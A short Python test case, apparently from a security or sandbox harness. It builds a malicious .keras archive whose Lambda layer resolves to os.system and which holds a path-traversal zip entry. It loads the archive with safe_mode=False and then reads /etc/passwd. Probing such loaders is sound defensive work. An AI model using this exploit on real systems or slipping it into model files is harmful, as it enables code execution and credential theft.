"""
attack: loads a .keras file with code in it
verdict: full
"""

from honest import attempt, class_activation_map, top_predictions

import json
import zipfile

import keras

config = {
    "module": "keras", "class_name": "Sequential", "registered_name": None,
    "config": {"name": "evil", "layers": [{
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"name": "evil", "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}},
    }]},
}
with zipfile.ZipFile("evil.keras", "w") as archive:
    archive.writestr("config.json", json.dumps(config))
    archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__, "date_saved": ""}))
    archive.writestr("../../evil", "x")

def load():
    keras.saving.load_model("evil.keras", safe_mode=False)
    return open("/etc/passwd").read()

attempt("what it does as it is loaded", load)
